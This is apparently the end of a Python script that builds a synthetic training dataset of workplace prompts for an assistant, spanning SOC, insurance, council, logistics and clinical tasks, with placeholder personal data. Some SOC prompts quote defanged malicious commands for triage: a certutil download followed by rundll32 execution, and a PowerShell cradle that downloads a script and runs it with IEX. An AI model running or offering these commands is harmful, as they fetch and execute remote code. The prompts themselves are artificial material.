[[IP|203.0.113.58]] - - [11/Jun/2025:14:22:07 +0000] "GET /checkout/complete?cc={CARD2}&exp=0427&name=[[P|Leon Fitzgerald]] HTTP/1.1" 200 5120

@ reasoning s h r :: How serious is this log exposure under PCI DSS
@ draft s h r :: draft the urgent advisory to the client
How serious is this log exposure under PCI DSS, and draft the urgent advisory to the client. Card data {CARD2} is being written to access logs via GET parameters on their checkout, logs retained 90 days and shipped to a third-party analytics tool.

@ extract s m r :: Pull the customer details out of this leaked paste
@ classify s m r :: rate how bad the exposure is (low/med/high)
Pull the customer details out of this leaked paste our dark-web monitor found for a client, and rate how bad the exposure is (low/med/high):

[[P|Christopher Vance]] | [[E|cvance1984@yahoo.com]] | SSN {SSN4} | [[T|(512) 555-0187]]
[[P|Maria Delgado]] | [[E|mdelgado@outlook.com]] | card {CARD3} | [[T|+1-737-555-0142]]

@ draft s m r
Singapore client's HR portal exposed an employee record. Draft the incident note for their DPO: affected individual [[P|Ng Hui Min]], NRIC {NRIC5}, exposed fields name/NRIC/salary, exposure window 3 hours, accessed by 1 internal IP [[IP|172.16.40.22]].

@ extract f m r
Client's finance team sent us the payment details for our invoice in a ticket. Extract amount, IBAN and reference so I can forward to our AR, then I'll scrub the ticket: "Paying EUR 31,080.00 from IBAN {IBAN_NL} ref MSSP-Q2-2025, contact [[P|Sanne de Vries]]"

@ reasoning f m r
Another client wants to pay us from a Belgian account {IBAN_BE} instead of their usual Austrian one {IBAN_AT}. Finance asked if that's a red flag. Thoughts?

@ summarize s m c :: Summarise the vulnerability scan for Brightmoor Council
@ classify s m c :: sort the findings into fix-now / this-month / accept
Summarise the vulnerability scan for Brightmoor Council and sort the findings into fix-now / this-month / accept:

Host [[IP|10.20.1.5]] — Apache 2.4.49 path traversal (CVE-2021-41773), internet-facing, CVSS 7.5
Host [[IP|10.20.1.9]] — SMBv1 enabled, internal only
Host [[IP|10.20.3.17]] — TLS 1.0 supported on internal print server
Host [[IP|fd12:3456:789a:1::25]] — self-signed cert on management interface

@ math s m i calc :: Calculate the mean time to detect
@ math s m i calc :: the mean time to respond
@ summarize s m i :: summarise the trend for the monthly report
Calculate the mean time to detect and the mean time to respond from these five incidents, then summarise the trend for the monthly report: (detect, respond, in minutes) 14/55, 9/40, 22/130, 6/25, 11/38.

@ qa s m p :: What's the difference between a vulnerability scan and a pen test
@ draft f m i :: draft a short sales blurb for our combined offer
What's the difference between a vulnerability scan and a pen test, and draft a short sales blurb for our combined offer.

@ translate s m i :: Translate this alert into French for our Lyon client
@ draft s m i :: add a one-line next step at the end
Translate this alert into French for our Lyon client and add a one-line next step at the end: "Multiple failed VPN logins from an unfamiliar country were blocked overnight. No successful access was observed."

@ sentiment g m c :: How did the team feel about the new rota based on this chat
@ draft g m i :: draft a message from me addressing the two biggest concerns
How did the team feel about the new rota based on this chat, and draft a message from me addressing the two biggest concerns:

[[P|Dev]]: 4 nights in a row is brutal tbh
[[P|Hannah]]: I like having full weekends off now
[[P|Ibrahim]]: handover at 6am is too early, nobody's sharp
[[P|Ellie]]: better than before overall
[[P|Dev]]: can we at least swap shifts without a manager sign-off?

@ code s m i :: Write a YARA rule for the dropper strings below
@ reasoning s m i :: tell me how likely it is to false-positive on legit installers
Write a YARA rule for the dropper strings below and tell me how likely it is to false-positive on legit installers: "kqw_loader_v2", "GetTickCount64 ^ 0x5A", "cmd /c ping localhost -n 3 & del".

@ extract s m c :: Pull the sender, reply-to, and links from these email headers
@ classify s l c :: say if it's phishing
Pull the sender, reply-to, and links from these email headers and say if it's phishing:

From: "Microsoft 365" <[[E|no-reply@m1crosoft-support.com]]>
Reply-To: [[E|helpdesk.verify@protonmail.com]]
Subject: Action required: mailbox storage full
Received: from mail.m1crosoft-support.com ([[IP|185.234.72.19]])
Body link: hxxps://m1crosoft-support[.]com/owa/verify?u=finance

@ draft s l i :: Draft a Teams post warning staff about the fake storage-full emails
@ creative s l p :: give it a catchy title
Draft a Teams post warning staff about the fake storage-full emails, and give it a catchy title.

@ math f l i calc :: what's 15% off £7,400 a month
@ draft f l c :: a line offering it to the client
what's 15% off £7,400 a month, plus a line offering it to the client?

@ summarize s l c :: summarise this alert
@ classify s l c :: is it P1 or P2
summarise this alert and is it P1 or P2: "Ransom note found on a single HR laptop, EDR isolated it, no lateral movement seen."

@ translate g l i :: translate to Spanish
@ sentiment g l c :: tell me if it sounds rude
translate to Spanish and tell me if it sounds rude: "We need the logs today, not next week."

@ qa s l p :: what's DMARC p=reject do
@ draft s l i :: write the DNS record for us
what's DMARC p=reject do, and write the DNS record for us?

@ code s l i :: fix this grep
@ code s l i :: explain the flags
fix this grep and explain the flags: grep -r -i "password=" . | grep -v .git

@ chat g l p
lol the printer is the real threat actor here

@ chat g l p
good morning, any tips for surviving a 12h shift?

@ chat g l p
I'm new in the SOC, is it normal to feel lost?

@ chat g l p
brilliant, cheers. that's me for the day

@ chat g l p
sorry, ignore my last question, figured it out

@ summarize s h c :: Give me a summary of this EDR process tree
@ reasoning s h c :: your verdict (malicious / suspicious / benign)
@ draft s m c :: a two-sentence note for the client ticket
Sorry it's a long paste. Give me a summary of this EDR process tree, your verdict (malicious / suspicious / benign), and a two-sentence note for the client ticket. Host FIN-LT-07, user [[P|Oliver Grant]].

winword.exe (PID 4412) "C:/Users/ogrant/Downloads/Remittance_0612.docm"
  cmd.exe (PID 5120) /c certutil -urlcache -f hxxp://files-share[.]top/a.txt C:/ProgramData/a.txt
    certutil.exe (PID 5188)
  cmd.exe (PID 5240) /c rundll32 C:/ProgramData/a.txt,DllRegisterServer
    rundll32.exe (PID 5301) network: [[IP|194.26.29.113]]:443 (TLS, JA3 51c64c77e60f3980eea90869b68c58a8)
  schtasks.exe (PID 5390) /create /sc onlogon /tn "OneDriveSync" /tr "rundll32 C:/ProgramData/a.txt,DllRegisterServer"

@ extract s m c :: list the persistence mechanism and C2 address from it
@ code s m i :: give me a Defender advanced hunting query to find other hosts that hit the same C2
Same tree — list the persistence mechanism and C2 address from it, and give me a Defender advanced hunting query to find other hosts that hit the same C2 ([[IP|194.26.29.113]]).

@ summarize g h i :: Summarise this customer complaint thread
@ sentiment g m c :: how angry the customer is on a 1-5 scale
@ draft g m c :: draft the apology with a goodwill gesture of a £50 credit
Morning! Bit of a saga this one. Summarise this customer complaint thread, tell me how angry the customer is on a 1-5 scale, and draft the apology with a goodwill gesture of a £50 credit.

From: [[P|Sandra Hughes]] <[[E|sandra@hugheshomeware.co.uk]]>
1 May: Our pallet of stock for the spring sale was due 28 April. Still nothing.
3 May: Your tracking says "delivered" but it wasn't. We've checked CCTV.
6 May: I've called four times. Each time I'm told someone will call back. Nobody has.
8 May: The pallet was found at your Wakefield depot, mislabelled. Delivered today, 10 days late, two boxes crushed. We missed the sale weekend. I want to know what you're going to do about this.

@ extract f m c :: pull the damaged items and their values
@ math f m c calc :: total them
@ classify f l c :: say whether it's above our £500 auto-approve claim threshold
For that same [[P|Hughes]] complaint, pull the damaged items and their values, total them, and say whether it's above our £500 auto-approve claim threshold: 2 x ceramic table lamps £89 each, 1 x mirror £165, 6 x cushion covers £14.50 each.

@ reasoning f h i :: whether we should switch the Ireland lane from groupage to full loads
@ math f m i calc :: show the cost per pallet each way
Context: we send about 26 pallets a week to Dublin on groupage at £118/pallet. A full 26-pallet trailer via Holyhead costs £2,650 per trip plus a £310 ferry surcharge. Tell me whether we should switch the Ireland lane from groupage to full loads, and show the cost per pallet each way. Transit time goes from 3 days to 2.

@ draft l h c :: draft the cover email to the insurer
@ summarize l m c :: a short summary of the claim history table below for the submission
@ math f m c calc :: the five-year loss ratio
I need three things for the fleet renewal: draft the cover email to the insurer, a short summary of the claim history table below for the submission, and the five-year loss ratio.

Year | Premium | Claims paid | No. of claims
2020 | £84,000 | £31,200 | 9
2021 | £88,500 | £52,700 | 12
2022 | £91,000 | £118,400 | 15 (incl. one £70k third-party injury)
2023 | £97,200 | £40,100 | 8
2024 | £102,600 | £36,900 | 7

@ reasoning f h c :: Is the 2022 spike a one-off
@ draft f m c :: suggest how I should position it with underwriters
Same fleet client. Is the 2022 spike a one-off, and suggest how I should position it with underwriters — the £70k claim was a pedestrian injury where the driver was found not at fault but the insurer settled anyway.

@ extract l m c :: Extract the parties, dates and premium from this binder
@ classify l m i :: tell me which class of business it is
Extract the parties, dates and premium from this binder and tell me which class of business it is:

BINDING AUTHORITY AGREEMENT UMR B0999ZX2025041. Coverholder: Meridian Broking Ltd. Insurer: Syndicate 4472 at Lloyd's. Period: 01/04/2025 to 31/03/2026. Class: property owners' liability and buildings for residential lets. Gross written premium limit: £3,000,000. Commission: 27.5%.

@ translate l h c :: translate the summary section of this Spanish policy into English
@ extract l m c :: list any exclusions that differ from our UK wording
Our Madrid partner sent this. Please translate the summary section of this Spanish policy into English and list any exclusions that differ from our UK wording (UK wording excludes flood only in Zone 3):

"Resumen de coberturas: Incendio, explosión y rayo hasta 2.000.000 EUR. Daños por agua hasta 150.000 EUR, con franquicia de 1.500 EUR. Robo con violencia hasta 80.000 EUR. Exclusiones: inundaciones en cualquier zona, actos terroristas, daños por moho o humedad continuada, y pérdidas por interrupción de negocio no derivadas de un siniestro cubierto."

@ summarize g h i :: Summarise the consultation responses below
@ classify g m i :: group them by theme
@ sentiment g m c :: say whether each theme is mostly for or against
City council, housing team. Summarise the consultation responses below, group them by theme, and say whether each theme is mostly for or against the proposed landlord licensing scheme.

1. "About time. My flat has had mould for two years and the landlord ignores me."
2. "£750 per property will just be passed on to tenants in higher rent."
3. "Good landlords are being punished for the bad ones."
4. "Licensing will help the council find the worst HMOs."
5. "Another tax. I'll sell up."
6. "Please include inspections, not just paperwork."
7. "Rents are already unaffordable, this will make it worse."

@ draft l h i :: Draft the cabinet report section on legal implications
@ qa l m p :: check what the Housing Act 2004 says about the evidence needed for selective licensing
Draft the cabinet report section on legal implications for the selective licensing scheme, and check what the Housing Act 2004 says about the evidence needed for selective licensing (low demand, ASB, poor property conditions etc.).

@ extract g m c :: pull names, addresses and issues from these casework emails
@ classify g m c :: tag each as housing, highways, or environmental health
Councillor casework — pull names, addresses and issues from these casework emails into a table and tag each as housing, highways, or environmental health:

(1) [[P|Mrs Joyce Adamu]], 14 Cedar Row — damp and mould in child's bedroom, housing association not responding.
(2) [[P|Mr Raj Bhatt]], 3 Mill Cottages — lorry damaged the kerb outside, now floods.
(3) [[P|Ms Kirsty Lennon]], 51 Abbey Road — neighbour burning rubbish every weekend, smoke in garden.

@ draft g m c :: draft a holding reply to each
Same three residents — draft a holding reply to each, signed by [[P|Cllr Helen Price]], saying I've raised it with officers and will update within 10 working days. One short paragraph each.

@ summarize m h r :: Summarise this discharge letter for the social worker
@ extract m m r :: pull out the medication changes
@ reasoning m h r :: flag anything that affects the care package
Summarise this discharge letter for the social worker, pull out the medication changes, and flag anything that affects the care package.

DISCHARGE SUMMARY — [[P|Mr Leonard Fairweather]], 79, NHS 943 476 5919. Admitted 02/06/2025 with urosepsis and delirium. Treated with IV gentamicin then oral co-amoxiclav. Delirium resolved by day 5. Mobility: now needs frame and 1 carer for transfers (previously independent with stick). Medication changes: STOP amlodipine (low BP); START tamsulosin 400 mcg OD; REDUCE furosemide 40 mg to 20 mg OD. Follow-up: urology OP in 6 weeks. Recommend: reablement package, review of home for grab rails, falls referral.

@ chat g l p
happy Friday! any fun plans for the weekend?

@ chat g l p
you there? screen went blank for a sec

@ chat g l p
that's hilarious, thanks for the laugh

@ creative g l p
quick rhyme for the office fridge clean-out sign

@ creative f l p
three fun names for the broking team's five-a-side football side

@ creative m l p
short motivational line for the lab whiteboard

@ creative g l p
write a cheesy pun about potholes for the council newsletter

@ sentiment f l c
happy or unhappy client? "Fine. Renew it. Whatever."

@ sentiment s l c
is this analyst's feedback constructive or just negative?

@ translate g l p
"Thank you for your patience" in French and German

@ translate m l p
what's "fasting blood glucose" in Spanish?

@ math f l p calc :: 18% of £960
@ draft f l i :: a one-liner for the quote
18% of £960, and a one-liner for the quote?

@ translate g l i :: translate "gate closes at 18:00" to Polish
@ draft g l i :: make a sign
translate "gate closes at 18:00" to Polish and make a sign

@ qa l l p :: what's GDPR Article 28
@ summarize l l p :: one line, no jargon
what's GDPR Article 28? one line, no jargon

@ classify s l c :: spam or phishing
@ draft s l i :: reply to the user
spam or phishing? reply to the user: "Amazon gift card for you, click here"

@ code g l i :: write a regex for UK postcodes
@ code g l i :: test it on SW1A 1AA
write a regex for UK postcodes and test it on SW1A 1AA

@ qa m l p :: normal adult resting heart rate
@ classify m l c :: is 112 tachycardic
normal adult resting heart rate? is 112 tachycardic?

@ math m l p calc :: BMI for 82 kg, 1.75 m
@ classify m l p :: which category
BMI for 82 kg, 1.75 m — and which category?

@ summarize g l i :: shorten this to 20 words
@ sentiment g l c :: is it too negative
shorten this to 20 words and is it too negative: "We regret that owing to repeated failures by your team we are unable to continue working with you beyond the current term."

@ !hn
@ qa g l i retr
did order 5502817734 ship before 12/06/2025?

@ !hn
@ extract f l i
invoice totals please: INV-77120 £1,200.00, INV-77121 £95.40, INV-77125 £12,000.00

@ !hn
@ qa s l i
is firmware 10.2.4.1162 the latest for the EX4300 switches?

@ !hn
@ classify f l i
refund ref 4929 0042 1187 3301 — card or internal reference?

@ !hn
@ reasoning f m i :: What went wrong
@ draft f m i :: write the email asking the supplier to confirm their IBAN
Bank returned the transfer to {BADIBAN1} with reason code AC01. What went wrong, and write the email asking the supplier to confirm their IBAN and send a bank letter.

@ !hn
@ summarize g m i :: Summarise these build results
@ classify g m i :: tell me which build is safe to deploy
Summarise these build results and tell me which build is safe to deploy:

build 2025.06.18.3 — 1,204 tests, 3 failed (flaky UI tests), version 5.8.0.211
build 2025.06.18.4 — 1,204 tests, 0 failed, version 5.8.0.212
build 2025.06.19.1 — 1,210 tests, 27 failed (DB migration), version 5.9.0.4

@ !hn
@ math f m i calc
Quarter close: sales ledger shows £1,482,305.17, bank shows £1,479,812.42, and there's an uncleared receipt of £2,140.00 dated 30/06/2025. What's the unexplained difference?

@ !hn
@ extract g m i
Pull the part number, qty and unit price into CSV:

PN 3M-8210-FFP2 qty 400 @ £0.92
PN KC-44390-NIT-L qty 1,200 @ £0.07
PN TS-9091-GOG qty 60 @ £3.45

@ reasoning m h c
Bit of context: I'm a postdoc and my PI wants to add a third arm to our mouse study halfway through (n=12 per arm, already 8 weeks in), using animals from a different batch. I'm uneasy about it. Is that statistically and ethically defensible, and what would the AWERB likely say?

@ draft m m i
Write the amendment request to our animal welfare body for adding a third arm (12 mice, same procedures, same severity limit, new compound at one dose). Under 300 words, formal.

@ qa m m p
What's the 3Rs principle and how would reducing a study from 3 arms to 2 with a shared control group count?

@ sentiment g m c
Can you read the room on this Slack thread before I jump in? Do people seem annoyed with me?

[[P|Kieran]]: the SOP changes went out without anyone checking with the sequencing core
[[P|Ama]]: yeah, we found out from the email like everyone else
[[P|Kieran]]: not ideal when we have runs booked this week
[[P|Ama]]: I'm sure it'll be fine but a heads-up would've been nice

@ draft g m c
Write my reply to that Slack thread — apologise for not looping in the core, say I'll hold the SOP changes until after this week's runs, and suggest a 15-minute call with [[P|Kieran]] and [[P|Ama]] on Monday.

@ classify s h c
Here are 6 alerts from overnight. Give each a severity (critical / high / medium / low) and a one-word category:

1. Impossible travel for [[E|a.rahman@coastline-hotels.com]] (London then Singapore within 2h)
2. New admin account "svc_backup2" created on DC01 at 03:12 by an account that's never done that before
3. 40 failed logins on the VPN from [[IP|5.188.206.14]], all blocked
4. Outbound DNS to a domain registered yesterday from a reception PC
5. USB mass storage connected to a CFO laptop
6. AV signature update failed on 3 kiosks

@ draft s h c
For alert 2 above — draft the P1 escalation to the client's IT manager [[P|Neil Sharma]], phone him on [[T|+44 7700 900 255]] first then send this. Include what we saw, what we've done (disabled svc_backup2, isolated DC01 from internet), and what we need from him in the next hour.

@ chat g l p
phew, that was a long meeting. how are you holding up?

@ chat g l p
no worries, I'll ask again tomorrow

@ creative s l p
rap verse about patching on Tuesdays, keep it silly

@ creative g m p
Our depot in Hull just hit 1,000 days without a lost-time injury. Write a short celebratory post for the intranet — upbeat, a bit cheeky, under 100 words.

@ extract g m c :: Pull the contact details out of this email signature block
@ draft g l c :: draft a one-line intro email to her
Pull the contact details out of this email signature block into a vCard-style list, then draft a one-line intro email to her:

[[P|Chloe Dubois]]
Responsable Achats Transport | Groupe Vallée Logistique
Mob. [[T|+33 6 12 48 90 33]] | Bureau [[T|+33 4 72 18 55 02]]
[[E|c.dubois@vallee-logistique.fr]]

@ extract f h r :: Extract the beneficiary details
@ reasoning f h r :: tell me if anything looks off
@ draft f m r :: draft the callback script for verifying the change
We got this bank-change request for a US carrier. Extract the beneficiary details, tell me if anything looks off, and draft the callback script for verifying the change (use the number on file, not the one in the email).

"Effective immediately please route payments to: Redline Freight LLC, owner [[P|Brandon Kowalczyk]], tax ID / SSN {SSN5}, new account with Chase. Call me on [[T|+1 (305) 555-0193]] to confirm. Previous number [[T|+1 212 555 0148]] is no longer in service."

@ code s m i :: Explain what this PowerShell does
@ classify s m c :: rate it malicious or not
Explain what this PowerShell does and rate it malicious or not:

$c = New-Object Net.WebClient
$c.Headers.Add("User-Agent","Mozilla/5.0")
$p = $c.DownloadString("hxxp://update-cdn[.]site/p.ps1")
IEX $p

@ summarize s h c :: Summarise the firewall config diff
@ reasoning s h c :: tell me which change probably broke the VPN
@ draft s m c :: draft the rollback change request
Client says their VPN died after last night's change. Summarise the firewall config diff, tell me which change probably broke the VPN, and draft the rollback change request.

- set vpn ipsec phase1-interface "HQ-Branch" remote-gw [[IP|82.132.41.9]]
+ set vpn ipsec phase1-interface "HQ-Branch" remote-gw [[IP|82.132.41.90]]
- set firewall policy 12 srcaddr "LAN-10"
+ set firewall policy 12 srcaddr "LAN-10" "LAN-20"
+ set system dns primary [[IP|2001:4860:4860::8888]]

@ extract m m r
Pull patient name, date of birth, allergies and the Australian contact number out of this referral so the study coordinator can call:

Referral from Perth site: [[P|Ms Sophie Nguyen]], DOB 22/11/1990, allergies: penicillin (rash), latex. Mobile [[T|+61 412 558 907]]. Eligible for the asthma biologic study, FEV1 62% predicted, 3 exacerbations last year.

@ translate m h c
Traducir al inglés, es un informe para el comité de seguridad: "Se notificaron tres acontecimientos adversos graves en el brazo de tratamiento: una neumonía, una fractura de cadera tras una caída y una elevación de transaminasas mayor de cinco veces el límite superior de la normalidad. Ninguno resultó mortal. El investigador consideró posiblemente relacionada únicamente la elevación de transaminasas."

@ draft s m c
Good morning. Bit of background: a client in Berlin had a staff member get a call from someone pretending to be our SOC asking for their MFA code. Their contact is [[P|Herr Markus Lang]], [[T|+49 30 8847 2210]]. Write him a short email (German is fine but English is OK too) confirming we never ask for MFA codes by phone and asking for the caller's number and time so we can investigate.

@ !hn
@ classify s l i
false positive? DLP says 5105 1051 0510 5107 in a spec doc is a card

@ !hn
@ extract g l i
from "Release 2.14.0.3 shipped 03/07/2025, hotfix 2.14.0.4 due 10/07", list versions and dates
"""


def main() -> None:
    source = "\n".join([LOGISTICS, INSURANCE, COUNCIL, BIOTECH, MSSP])
    rows = record_rows(source, prefix="diverse24", expand=expand)
    for row in rows:
        if len(row["tasks"]) == 1:
            row["tasks"][0]["text"] = ""
    write_and_check(HERE / "train_diverse24.jsonl", rows, scan_unmarked=True)


if __name__ == "__main__":
    main()
